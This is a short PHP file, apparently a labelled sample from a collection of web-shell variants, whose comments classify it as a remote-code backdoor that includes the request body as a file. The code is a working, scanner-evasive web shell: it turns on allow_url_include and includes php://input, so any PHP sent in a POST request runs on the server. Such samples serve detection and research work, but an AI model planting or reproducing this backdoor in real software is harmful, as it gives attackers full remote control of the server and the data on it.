<?php
// Family: backdoor/remote-code
// Style: include of the request body
// Trait: php://input included as a file: the POST body is the code, no evaluator name appears
ini_set('allow_url_include', '1');
include('php://input');
